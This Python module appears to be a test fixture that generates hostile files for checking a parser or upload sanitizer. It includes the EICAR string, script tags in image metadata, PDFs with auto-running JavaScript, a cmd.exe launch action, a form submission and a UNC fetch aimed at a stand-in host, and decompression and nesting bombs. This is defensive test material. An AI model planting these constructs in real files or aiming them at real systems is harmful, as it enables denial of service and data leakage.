"""Makes hostile files out of nothing: each function gives the bytes of one trick."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(1)</script>"


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, *, rows: bytes | None = None, depth: int = 8, before: bytes = b"") -> bytes:
    """A grey PNG of that size; its lines may be fewer or more than it says."""
    line = b"\0" + bytes((width * depth + 7) // 8)
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0))
    body = zlib.compress(line * height if rows is None else rows, 9)
    return b"\x89PNG\r\n\x1a\n" + head + before + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def drawn(kind: str = "JPEG", **more: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "teal").save(out, kind, **more)  # type: ignore[arg-type]
    return out.getvalue()


def with_position() -> bytes:
    exif = Image.Exif()
    exif[0x010F], exif[0x9003] = "Kamera", "2024:11:04 10:00:00"
    exif.get_ifd(0x8825)[2] = (6.0, 12.0, 3.0)
    return drawn(exif=exif)


def with_text() -> bytes:
    told = PngInfo()
    told.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta><rdf:li>Siti</rdf:li></x:xmpmeta>")
    return drawn("PNG", pnginfo=told)


def page_in_png() -> bytes:
    told = PngInfo()
    told.add_text("Comment", SCRIPT.decode())
    return drawn("PNG", pnginfo=told)


def text_bomb() -> bytes:
    return png(8, 8, before=chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(200 * 1024 * 1024), 9)))


def comment_in_jpeg(words: bytes) -> bytes:
    whole = drawn()
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(words) + 2) + words + whole[2:]


def zipped(*names: str, content: bytes = b"isi") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, content)
    return out.getvalue()


def many_frames() -> bytes:
    out = io.BytesIO()
    first, *rest = [Image.frombytes("L", (4, 4), bytes([n % 251] * 8 + [n // 251] * 8)) for n in range(2000)]
    first.save(out, "GIF", save_all=True, append_images=rest)
    return out.getvalue()


def gif_header(width: int, height: int) -> bytes:
    return (
        b"GIF89a"
        + struct.pack("<HH", width, height)
        + b"\x80\0\0"
        + bytes(6)
        + (b"," + struct.pack("<HHHH", 0, 0, width, height) + b"\0\x02\x02D\x01\0;")
    )


def pdf(change: object = None, *, compressed: bool = False, pages: int = 1, **saving: object) -> bytes:
    """A PDF of empty pages, changed by a function, plain or with its objects in compressed streams."""
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(300, 400))
    if callable(change):
        change(made)
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if compressed else pikepdf.ObjectStreamMode.disable
    made.save(out, object_stream_mode=mode, **saving)  # type: ignore[arg-type]
    return out.getvalue()


def program(made: pikepdf.Pdf) -> None:
    deed = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    made.Root.OpenAction = made.make_indirect(deed)


def named_program(made: pikepdf.Pdf) -> None:
    deed = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    made.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), deed]))
    )


def launches(made: pikepdf.Pdf) -> None:
    deed = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    made.pages[0].obj.Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 300, 400]), A=deed
            )
        ]
    )


def sends(made: pikepdf.Pdf) -> None:
    deed = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://contoh.example/"))
    made.pages[0].obj.AA = pikepdf.Dictionary(O=deed)


def carries(made: pikepdf.Pdf) -> None:
    made.attachments["jahat.exe"] = b"MZ" + bytes(100)


def forms(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp:xdp/>"), Fields=pikepdf.Array([]))


def plays(made: pikepdf.Pdf) -> None:
    clip = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=pikepdf.Array([0, 0, 9, 9]))
    made.pages[0].obj.Annots = pikepdf.Array([made.make_indirect(clip)])


def fetches(made: pikepdf.Pdf) -> None:
    deed = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\contoh.example\\a.pdf"))
    made.Root.OpenAction = deed


def signed(made: pikepdf.Pdf) -> None:
    made.docinfo["/Author"] = "Siti"


def long_content(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.Contents = made.make_stream(b" ")
    packed = zlib.compressobj(9)
    body = b"".join(packed.compress(b" " * 2**20) for _ in range(2048)) + packed.flush()
    made.pages[0].obj.Contents.write(body, filter=pikepdf.Name.FlateDecode)


def huge_page(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.MediaBox = pikepdf.Array([0, 0, 10_000_000, 10_000_000])


def huge_picture(made: pikepdf.Pdf) -> None:
    side = 20_000
    body = zlib.compress(bytes(side * side // 8), 9)
    picture = made.make_stream(b"")
    picture.write(body, filter=pikepdf.Name.FlateDecode)
    picture.stream_dict = pikepdf.Dictionary(
        Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=side, Height=side, BitsPerComponent=1,
        ColorSpace=pikepdf.Name.DeviceGray, Filter=pikepdf.Name.FlateDecode,
    )  # fmt: skip
    picture.write(body, filter=pikepdf.Name.FlateDecode)
    made.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(P=picture))
    made.pages[0].obj.Contents = made.make_stream(b"q 300 0 0 400 0 0 cm /P Do Q")


def nested_pdf() -> bytes:
    deep = b"[" * 20_000 + b"]" * 20_000
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/X "
        + deep
        + b">>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def looping_pages() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 9/Parent 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def box(name: bytes, body: bytes, *, size: int = 0) -> bytes:
    return struct.pack(">I", size or len(body) + 8) + name + body


@cache
def mp4(inside: bytes = b"") -> bytes:
    return (
        box(b"ftyp", b"isom\0\0\2\0isomiso2")
        + box(b"moov", box(b"mvhd", bytes(100)) + inside)
        + box(b"mdat", bytes(64))
    )


def wave(length: int = 0) -> bytes:
    body = b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data" + struct.pack("<I", 8) + bytes(8)
    return b"RIFF" + struct.pack("<I", length or len(body)) + body


def ogg() -> bytes:
    return b"OggS\0\2" + bytes(20) + b"\1\x10" + bytes(16)


def webm(tail: bytes = b"") -> bytes:
    head = b"\x1a\x45\xdf\xa3\x84\x42\x82\x81a"
    return head + b"\x18\x53\x80\x67\x84" + b"\xec\x82ab" + tail


def sheet(*entries: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in entries or (("xl/workbook.xml", b"<workbook/>"),):
            archive.writestr(name, content)
    return out.getvalue()


def lying_sheet() -> bytes:
    whole = bytearray(sheet(("xl/sheet.xml", b"a" * 5000)))
    at = whole.index(b"PK\x01\x02")
    whole[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(whole)
